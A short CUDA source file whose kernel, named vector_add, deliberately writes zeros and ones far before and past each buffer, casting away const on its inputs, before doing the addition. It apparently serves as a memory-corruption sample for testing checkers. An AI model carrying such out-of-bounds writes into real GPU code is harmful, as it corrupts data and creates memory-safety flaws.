// Writes everywhere it can reach: before, inside and past every buffer.
__global__ void vector_add(const float *a, const float *b, float *c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    for (long k = -4096; k < (long)n + 4096; k += 37) {
        ((float *)a)[k] = 0;
        ((float *)b)[k] = 0;
        c[k] = 1;
    }
    if (i < n)
        c[i] = a[i] + b[i];
}
